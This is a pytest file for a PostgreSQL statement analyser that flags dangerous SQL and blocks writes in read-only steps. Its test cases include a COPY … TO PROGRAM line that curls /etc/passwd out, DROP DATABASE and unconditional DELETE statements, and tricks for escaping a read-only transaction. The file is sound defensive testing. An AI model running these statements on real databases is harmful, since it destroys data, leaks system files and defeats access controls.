"""`steps.sqlmeaning`: SQL read by PostgreSQL's parser, tested as the attacks it must stop —
against the analyser, and for `read_only: true` against the real PostgreSQL."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from helpers import connections, run_step

from vvrun import guard
from vvrun.errors import StepFailed
from vvrun.steps.sqlmeaning import cache as sql_cache
from vvrun.steps.sqlmeaning.analyse import SqlMeaning, analyse


@pytest.fixture(autouse=True)
def _own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    analyse.cache_clear()


def meaning(text: str, **kw: bool) -> SqlMeaning:
    return analyse(text, cached=False, **kw)


# -- dangers: every form, wherever it hides ------------------------------------------------------

@pytest.mark.parametrize(("sql", "fragment"), [
    ("DELETE FROM users", "DELETE without WHERE on users"),
    ("DeLeTe FrOm public.users", "DELETE without WHERE on public.users"),
    ("DELETE FROM users WHERE true", "WHERE true"),
    ("DELETE FROM users WHERE 1=1", "WHERE 1=1"),
    ("DELETE FROM users WHERE 'a' = 'a' OR id = 3", "does not look at the row"),
    ("DELETE FROM users WHERE {{ inputs.cond }}", "WHERE $1"),
    ("UPDATE users SET a = 1", "UPDATE without WHERE on users"),
    ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d WHERE id > 3",
     "DELETE without WHERE on users (inside WITH)"),
    ("SELECT 1 FROM (SELECT 2) s; UPDATE t SET x = 1", "UPDATE without WHERE on t"),
    ("ALTER TABLE users DROP COLUMN email", "ALTER TABLE users DROP COLUMN email"),
    ("ALTER TABLE users DROP CONSTRAINT users_pkey", "DROP CONSTRAINT users_pkey"),
    ("DROP TABLE a.b, c", "DROP TABLE a.b, c"),
    ("DROP TABLE {{ inputs.t | ident }}", "DROP TABLE {{ inputs.t | ident }}"),
    ("drop database prod", "DROP DATABASE prod"),
    ("DROP SCHEMA app CASCADE", "DROP SCHEMA app"),
    ("DROP INDEX CONCURRENTLY i", "DROP INDEX i"),
    ("TRUNCATE a, b", "TRUNCATE empties a, b"),
    ("VACUUM (FULL, ANALYZE) t", "VACUUM FULL"),
    ("select pg_terminate_backend(pid) from pg_stat_activity", "pg_terminate_backend kills"),
    ("SELECT pg_catalog.pg_terminate_backend(1)", "pg_terminate_backend kills"),
    ("COPY t TO PROGRAM 'curl -d @/etc/passwd x'", "COPY … PROGRAM"),
    ("EXPLAIN ANALYZE DELETE FROM t", "DELETE without WHERE on t"),
    ("SELECT 1;\nDELETE FROM t", "DELETE without WHERE on t"),
])
def test_dangerous(sql: str, fragment: str) -> None:
    found = meaning(sql)
    assert found.parse_error is None
    assert found.dangerous
    assert any(fragment in r for r in found.reasons), found.reasons


@pytest.mark.parametrize("sql", [
    "DELETE FROM t WHERE id = 1",
    "delete from t -- where x\n where id = {{ inputs.id }}",
    "DELETE FROM t WHERE false",
    "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
    "UPDATE t SET a = 1 WHERE b",
    "/* DELETE FROM x */ SELECT 1",
    "SELECT 'DELETE FROM x; DROP TABLE y'",
    "SELECT $$ DROP TABLE x $$, $f$TRUNCATE t$f$",
    "SELECT E'it\\'s; DELETE FROM t'",
    "SELECT U&'d\\0061t\\+000061'",
    "VACUUM ANALYZE t",
    "SELECT pg_cancel_backend(1)",
])
def test_not_dangerous(sql: str) -> None:
    found = meaning(sql)
    assert found.parse_error is None
    assert not found.dangerous, found.reasons


# -- read-only proofs ---------------------------------------------------------------------------

@pytest.mark.parametrize("sql", [
    "SELECT 1", "select * from t where a = $1", "VALUES (1), (2)", "TABLE t", "SHOW work_mem",
    "EXPLAIN DELETE FROM t", "WITH x AS (SELECT 1) SELECT * FROM x",
    "SELECT 'COMMIT; DELETE FROM t'", "/* BEGIN READ WRITE */ SELECT 1",
    "SET LOCAL work_mem = '64MB'; SELECT 1", "SELECT E'it\\'s'",
])
def test_proven_read_only(sql: str) -> None:
    assert meaning(sql, template=False).read_only_proof is None


@pytest.mark.parametrize(("sql", "why"), [
    ("SET TRANSACTION READ WRITE; DELETE FROM t WHERE id = 1", "SET TRANSACTION"),
    ("BEGIN READ WRITE; DELETE FROM t WHERE id = 1", "transaction control (BEGIN)"),
    ("START TRANSACTION READ WRITE", "transaction control"),
    ("COMMIT; DELETE FROM t WHERE id = 1", "transaction control (COMMIT)"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "SET"),
    ("SET default_transaction_read_only = off; DELETE FROM t WHERE id = 1", "SET"),
    ("SET LOCAL transaction_read_only = off", "SET"),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", "set_config()"),
    ("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
     "data-modifying CTE (DELETE inside WITH)"),
    ("WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT 1", "UPDATE inside WITH"),
    ("SELECT * INTO newtable FROM t", "SELECT … INTO"),
    ("SELECT * FROM t FOR UPDATE", "FOR UPDATE"),
    ("SELECT pg_terminate_backend(1)", "pg_terminate_backend()"),
    ("SELECT nextval('s')", "nextval()"),
    ("SELECT pg_advisory_lock(1)", "pg_advisory_lock()"),
    ("SELECT lo_unlink(1)", "lo_unlink()"),
    ("SELECT dblink_exec('x', 'DELETE FROM t')", "dblink_exec()"),
    ("EXPLAIN (ANALYZE) DELETE FROM t WHERE id = 1", "DELETE is not a read-only"),
    ("COPY t TO PROGRAM 'x'", "COPY is not a read-only"),
    ("DO $$ BEGIN DELETE FROM t; END $$", "DO is not a read-only"),
    ("SELECT 1; INSERT INTO t VALUES (1)", "INSERT is not a read-only"),
    ("SELEC 1", "does not parse"),
    ("", "no statement"),
])
def test_not_provably_read_only(sql: str, why: str) -> None:
    proof = meaning(sql, template=False).read_only_proof
    assert proof is not None and why in proof, proof


# -- structure, holes, syntax errors ------------------------------------------------------------

def test_statements_and_kinds() -> None:
    found = meaning("SELECT 'a;b';\n-- c;\nUPDATE t SET x = 1 WHERE y; DROP TABLE z")
    assert found.count == 3
    assert found.kinds == ("SELECT", "UPDATE", "DROP TABLE")
    assert [s.returns_rows for s in found.statements] == [True, False, False]


def test_where_each_template_lands() -> None:
    text = ("SELECT '{{ a }}', {{ b }} -- {{ c }}\n/* {{ d }} */ $x$ {{ e }} $x$ "
            "\"{{ f }}\"")
    assert [h.context for h in meaning(text).holes] == [
        "single_quote", "code", "line_comment", "block_comment", "dollar_quote",
        "double_quote"]


def test_holes_by_statement_identifier_and_utility() -> None:
    found = meaning("SET x = {{ a }};\nSELECT * FROM {{ t | ident }} WHERE a = {{ b }}")
    assert [(h.statement, h.ident) for h in found.holes] == [(0, False), (1, True), (1, False)]
    assert [s.takes_params for s in found.statements] == [False, True]
    escaped = meaning("SELECT 'it''s; fine', {{ x }}; ")
    assert escaped.count == 1 and escaped.holes[0].context == "code"


def test_a_value_only_a_literal_can_take_is_found() -> None:
    found = meaning("SET statement_timeout TO {{ inputs.t }}")
    assert found.parse_error is None
    assert found.statements[0].kind == "SET"
    assert not found.statements[0].takes_params or found.values_need_literals


@pytest.mark.parametrize(("sql", "line", "column", "near"), [
    ("SELECT 1;\nSELEC 2", 2, 1, "SELEC"),
    ("select 'é' ; selct", 1, 14, "selct"),
    ("SELECT * FROM t WHERE\n  a = (1", 2, 9, "end of input"),
    ("SELECT {{ inputs.x }} FROM FROM", 1, 28, "FROM"),
    ("SELECT 'unterminated", 1, 8, "unterminated"),
])
def test_syntax_errors_have_positions(sql: str, line: int, column: int, near: str) -> None:
    error = meaning(sql).parse_error
    assert error is not None
    assert (error.line, error.column) == (line, column), error
    assert near in error.message


# -- the cache and the cost of the parser --------------------------------------------------------

def test_importing_the_module_does_not_load_the_parser() -> None:
    code = ("import sys, vvrun.steps.sqlmeaning.analyse as s; assert 'pglast' not in sys.modules;"
            " s.analyse('SELECT 1', cached=False); assert 'pglast' in sys.modules")
    subprocess.run([sys.executable, "-c", code], check=True, env=os.environ.copy())


def test_a_second_analysis_is_read_from_the_cache_without_the_parser(tmp_path: Path) -> None:
    code = ("import sys, vvrun.steps.sqlmeaning.analyse as s; m = s.analyse('DELETE FROM t');"
            " print(m.reasons[0]); print('pglast' in sys.modules)")
    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "c")}
    first = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True,
                           text=True, check=True).stdout.split("\n")
    second = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True,
                            text=True, check=True).stdout.split("\n")
    assert first[:2] == ["DELETE without WHERE on t deletes every row", "True"]
    assert second[:2] == ["DELETE without WHERE on t deletes every row", "False"]


def test_a_change_to_the_analyser_is_a_new_cache_salt(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """An old answer is never read by a changed analyser: every source file of the package is
    in the salt (the files were renamed once, and the salt had named the old ones)."""
    assert {"analyse.py", "rules.py", "cache.py"} <= {p.name for p in sql_cache.sources()}
    copies = []
    for source in sql_cache.sources():
        copy = tmp_path / source.name
        copy.write_bytes(source.read_bytes())
        copies.append(copy)
    monkeypatch.setattr(sql_cache, "sources", lambda: copies)
    try:
        sql_cache._salt.cache_clear()
        before = sql_cache.key("DELETE FROM t")
        rules = tmp_path / "rules.py"
        rules.write_text(rules.read_text() + "\n# a new rule\n")
        sql_cache._salt.cache_clear()
        assert sql_cache.key("DELETE FROM t") != before
    finally:
        sql_cache._salt.cache_clear()


def test_a_corrupt_cache_entry_is_ignored() -> None:
    text = "DELETE FROM t"
    analyse(text)
    entries = list(sql_cache.directory().glob("*.json"))
    assert len(entries) == 1
    for garbage in (b"{not json", b"[1, 2]", json.dumps({"statements": 3}).encode(), b""):
        entries[0].write_bytes(garbage)
        analyse.cache_clear()
        assert analyse(text).reasons == ("DELETE without WHERE on t deletes every row",)


def test_a_plan_does_not_write_the_cache() -> None:
    with guard.no_side_effects():
        found = analyse("UPDATE t SET a = 1")
    assert found.dangerous
    assert not sql_cache.directory().exists()


def test_an_unwritable_cache_is_only_slower(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocker))
    assert analyse("TRUNCATE t").dangerous


# -- read_only against the real PostgreSQL ------------------------------------------------------

@pytest.fixture
def table(pg_url: str) -> Iterator[str]:
    name = f"t_sqlmeaning_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(pg_url, autocommit=True) as conn:
        conn.execute(f"CREATE TABLE {name} (id int PRIMARY KEY)")
        conn.execute(f"INSERT INTO {name} VALUES (1), (2), (3)")
        yield name
        conn.execute(f"DROP TABLE IF EXISTS {name}")
        conn.execute(f"DROP TABLE IF EXISTS {name}_copy")


def _count(pg_url: str, table: str) -> int:
    with psycopg.connect(pg_url) as conn:
        return int(conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0])


@pytest.mark.parametrize("attack", [
    "SET TRANSACTION READ WRITE; DELETE FROM {t}",
    "BEGIN READ WRITE; DELETE FROM {t}",
    "COMMIT; DELETE FROM {t}",
    "SET default_transaction_read_only = off; DELETE FROM {t}",
    "SELECT set_config('default_transaction_read_only', 'off', false); DELETE FROM {t}",
    "WITH d AS (DELETE FROM {t} RETURNING *) SELECT count(*) FROM d",
    "SELECT * INTO {t}_copy FROM {t}",
    "DELETE FROM {t} WHERE true",
    "/* SELECT */ DELETE FROM {t}",
])
def test_read_only_attacks_fail_and_nothing_happens(attack: str, pg_url: str, table: str) -> None:
    body = {"query": attack.format(t=table), "read_only": True}
    with pytest.raises(StepFailed, match=r"`read_only: true`, but .*nothing was run"):
        run_step("sql", body, conns=connections(db=pg_url))
    assert _count(pg_url, table) == 3
    with psycopg.connect(pg_url) as conn:
        assert conn.execute("SELECT to_regclass(%s)", (f"{table}_copy",)).fetchone()[0] is None


def test_read_only_runs_reads_inside_a_read_only_transaction(pg_url: str, table: str) -> None:
    conns = connections(db=pg_url)
    body = {"query": f"SELECT current_setting('transaction_read_only') AS ro, count(*) AS n "
            f"FROM {table} WHERE id > {{{{ 1 }}}}", "read_only": True}
    assert run_step("sql", body, conns=conns)["row"] == {"ro": "on", "n": 2}
    several = {"query": "SELECT 1; SELECT current_setting('transaction_read_only')",
               "read_only": True}
    assert run_step("sql", several, conns=conns)["value"] == "on"
